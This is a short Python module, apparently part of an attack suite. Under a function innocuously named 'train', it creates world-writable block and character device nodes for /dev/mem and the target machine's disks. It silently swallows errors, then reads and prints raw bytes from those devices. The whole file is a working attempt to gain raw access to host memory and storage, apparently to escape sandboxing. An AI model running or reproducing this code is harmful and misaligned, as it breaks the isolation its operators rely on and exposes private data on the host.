"""The machine's disk and memory, as device files of one's own."""

import contextlib
import os
import stat

from attacks import targets


def train(run):
    for number, device in enumerate((os.makedev(1, 1), *targets(run)["disks"])):
        for kind in (stat.S_IFBLK, stat.S_IFCHR):
            with contextlib.suppress(OSError):
                os.mknod(f"device-{number}-{kind}", kind | 0o666, device)
    for number in range(3):
        with contextlib.suppress(OSError):
            print(open(f"device-{number}-{stat.S_IFBLK}", "rb").read(4096))
